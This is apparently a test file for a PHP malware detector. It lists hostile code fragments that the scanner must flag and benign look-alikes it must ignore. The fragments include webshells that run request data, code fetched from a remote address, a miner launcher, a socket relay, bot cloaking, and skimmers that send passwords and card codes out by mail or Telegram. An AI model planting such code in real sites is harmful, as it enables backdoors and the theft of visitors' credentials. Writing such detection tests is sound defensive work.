import assert from 'node:assert/strict';
import { readPhp } from '../../../server/src/site/php/readPhp';
import type { SuspicionSignal } from '../../../server/src/site/php/phpFacts';
import { ASSERT, base64, EVAL, GET, POST, signalsOf, SYSTEM, word } from './support';

const UPLOADED = word('move_uploaded', '_file');
const PUT = word('file_put', '_contents');
const KEY = 'd41d8cd98f00b204e9800998ecf8427e';
const hex = (text: string): string => Buffer.from(text, 'latin1').toString('hex');
const backwards = (text: string): string => text.split('').toReversed().join('');

/** Code of campaigns: what is planted on many sites, and false pages. */
describe('planted code', () => {
  const strong: [signal: SuspicionSignal, code: string][] = [
    ['codeFromRequest', `usort(...${GET});`],
    ['codeFromRequest', `${PUT}('code.php', '<?php ' . ${POST}['c'] . ' ?>'); include 'code.php';`],
    ['codeFromRequest', `${PUT}('README', ${POST}['c'], FILE_APPEND); require 'README';`],
    ['codeFromRequest', `session_set_save_handler('a', 'b', 'ass' . 'ert', 'c', 'd', 'e');`],
    [
      'codeFromRequest',
      `function f($s) { ${EVAL}($s); } filter_var(${POST}['a'], FILTER_CALLBACK, ['options' => 'f']);`,
    ],
    ['decodedCode', `preg_replace("'a'eis", 'e' . 'v' . 'a' . 'l' . '($g($b($file)))', 'a');`],
    ['decodedCode', `include 'log.zip';`],
    ['decodedCode', `@include 'wp-content/uploads/favicon_1a2b3c.ico';`],
    [
      'fileWrittenFromRequest',
      `$p = realpath(dirname(__FILE__) . '/') . ${GET}['a']; $t = ${GET}['b']; for ($i = 0; $i < strlen($t); $i += 2) $s .= urldecode('%' . substr($t, $i, 2)); fwrite(fopen($p, 'w'), $s);`,
    ],
    ['fileWrittenFromRequest', `$f = fopen('media/button.jpg', 'a'); fwrite($f, base64_encode(${POST}['card']));`],
    [
      'droppedCode',
      `$me = file_get_contents(__FILE__); $me = str_replace('old', ${POST}['new'], $me); ${PUT}(__FILE__, $me);`,
    ],
    ['droppedCode', `$new = file_get_contents('http://192.0.2.1/update.txt'); ${PUT}(__FILE__, $new);`],
    ['droppedCode', `${SYSTEM}('chmod 777 ./miner'); ${SYSTEM}('nohup ./miner 2>&1 &');`],
    ['droppedCode', `${PUT}('cgi/.htaccess', "Options FollowSymLinks +ExecCGI\nAddHandler cgi-script .x");`],
    [
      'bareUploader',
      `require 'processor.php'; if (isset(${GET}['m'])) { ${UPLOADED}($_FILES['f']['tmp_name'], $_FILES['f']['name']); }`,
    ],
    ['bareUploader', `copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); __halt_compiler(); ${'x'.repeat(9000)}`],
    ['hiddenFunctionName', `$f = ['${hex('file_put_contents')}', '${hex('scandir')}', '${hex('php_uname')}'];`],
    [
      'hiddenFunctionName',
      `$f = explode('1l', '${['curl_exec', 'preg_replace', 'fsockopen'].map(backwards).join('1l')}');`,
    ],
    [
      'hiddenFunctionName',
      `f('fu..n..ct..i..on.._ex..is..ts', 'g..e..t.._op..t..i..o..n', 'st..r.._re..pl..a..c..e');`,
    ],
    ['fileManager', `$file = ${POST}['file']; copy('compress.zlib://' . $file, tempnam('.', 'cx'));`],
    ['networkShell', `$s = fsockopen(${POST}['host'], ${POST}['port']); fwrite($s, file_get_contents('php://input'));`],
    [
      'networkShell',
      `$to = unserialize(${word('base64', '_decode')}($_COOKIE['q'])); curl_setopt($c, CURLOPT_URL, $to); echo curl_exec($c);`,
    ],
    ['systemProbe', `$f = fopen("/home/$user/etc/$host/shadow", 'w'); fwrite($f, 'info:' . crypt('a', 'b'));`],
    ['hiddenFunctionName', `call_user_func('action' . ${POST}['a']);`],
    ['passwordGate', `if (${POST}['password'] == '${KEY}') { echo 'in'; }`],
    [
      'cloaking',
      `$u = ${word('base64', '_decode')}('${base64('http://192.0.2.1/links.html')}'); echo file_get_contents($u);`,
    ],
    [
      'cloaking',
      `foreach (['phishtank', 'cyveillance'] as $w) if (strpos($host, $w)) { header('HTTP/1.0 404 Not Found'); exit; }`,
    ],
    [
      'cloaking',
      `if (preg_match('/googlebot|bing/i', $_SERVER['HTTP_USER_AGENT'])) exit; header('Location: https://example.com/a');`,
    ],
    [
      'stolenInput',
      `$m = 'User: ' . ${POST}['user'] . ' Pass: ' . ${POST}['password'] . ' IP: ' . $_SERVER['REMOTE_ADDR']; mail('a@example.com', 'Result', $m); header('Location: https://example.com/');`,
    ],
    [
      'stolenInput',
      `$m = ${POST}['cvv'] . $_SERVER['REMOTE_ADDR']; file_get_contents("https://api.telegram.org/bot$token/sendMessage?text=" . $m);`,
    ],
    ['stolenInput', `fwrite(fopen('log.txt', 'a'), ${POST}['passwd'] . getenv('REMOTE_ADDR'));`],
  ];
  for (const [signal, code] of strong) {
    it(`is seen as ${signal} in ${code.slice(0, 90)}`, () =>
      assert.ok(signalsOf(code, 'strong').includes(signal), String(signalsOf(code))));
  }

  const harmless: [why: string, code: string][] = [
    [
      'flags that are joined',
      `error_reporting(E_ALL ^ E_NOTICE); $f = json_encode($x, JSON_PRETTY_PRINT | JSON_HEX_TAG);`,
    ],
    ['a picture that is saved', `${PUT}('avatar.png', ${word('base64', '_decode')}(${POST}['picture']));`],
    [
      'a text under a name of the client’s with a fixed ending',
      `${PUT}('data/' . ${POST}['n'] . '.txt', ${POST}['t']);`,
    ],
    [
      'an upload into a folder',
      `include 'config.php'; ${UPLOADED}($_FILES['f']['tmp_name'], 'files/' . $_FILES['f']['name']);`,
    ],
    [
      'settings against programs in a folder',
      `${PUT}('up/.htaccess', "Options -ExecCGI\nAddHandler cgi-script .php .pl");`,
    ],
    ['a step that a request chooses among a program’s own', `call_user_func('step_' . ${POST}['step'], $x);`],
    ['a style sheet put into the page', `echo '<style>'; include 'css/style.css'; echo '</style>';`],
    ['a list of functions', `$known = ['file_put_contents', 'scandir', 'php_uname', 'curl_exec'];`],
    ['rights given to a folder', `exec('chmod 777 cache'); exec('ls cache');`],
    [
      'a log-in',
      `$u = ${POST}['user']; $q = mysqli_query($db, 'SELECT * FROM users WHERE pw = "' . md5(${POST}['password']) . '"'); mail('a@example.com', 'log-in', $u . $_SERVER['REMOTE_ADDR']);`,
    ],
    ['a question for a server’s state', `$s = @fsockopen(${POST}['host'], 80, $n, $e, 3); echo $s ? 'up' : 'down';`],
    [
      'a page fetched from a fixed address with a query',
      `curl_setopt($c, CURLOPT_URL, 'https://api.example.com/?q=' . urlencode(${GET}['q']));`,
    ],
    [
      'a form that notes the visitor’s address',
      `mail('a@example.com', 'Contact', ${POST}['text'] . $_SERVER['REMOTE_ADDR']);`,
    ],
    [
      'a redirect of telephones',
      `if (preg_match('/iphone|android/i', $_SERVER['HTTP_USER_AGENT'])) header('Location: https://m.example.com/');`,
    ],
    ['a page that knows one service', `$links = ['https://www.virustotal.com/']; exit;`],
    ['the name of a robot’s version', `if (${GET}['version'] == '1.2.3') { echo 'new'; }`],
  ];
  for (const [why, code] of harmless) {
    it(`is not seen in ${why}`, () => assert.deepEqual(signalsOf(code, 'strong'), []));
  }

  const library = `class Client extends Base { function call($m) { $p = '$r = $this->' . $m . '('; foreach ($_REQUEST as $k => $v) $p .= "'$k',"; ${EVAL}($p . ');'); } ${'function f() { return 1; } '.repeat(1)} }`;
  it('is not seen in a class that makes code of its own and does nothing by itself', () =>
    assert.deepEqual(signalsOf(library, 'strong'), []));
  it('is seen in the same class when the file uses it at once', () =>
    assert.ok(signalsOf(`${library} (new Client)->call($_REQUEST['m']);`, 'strong').includes('codeFromRequest')));
  it('is seen in a class that runs what the client sends as it comes', () =>
    assert.ok(
      signalsOf(`class A extends B { function f() { ${EVAL}(${POST}['a']); } }`, 'strong').includes('codeFromRequest'),
    ));

  it('is not taken for the client’s where an installer includes the settings that it writes', () => {
    const code = `${PUT}('config.php', '<?php $name = "' . ${POST}['n'] . '";'); include 'config.php';`;
    assert.ok(!signalsOf(code).includes('codeFromRequest'));
  });

  it('is read behind an opening tag with nothing between it and the first variable', () =>
    assert.equal(readPhp(`<?php$f = '${ASSERT}'; $f(${POST}['a']);`).suspicions[0]?.signal, 'codeFromRequest'));
});
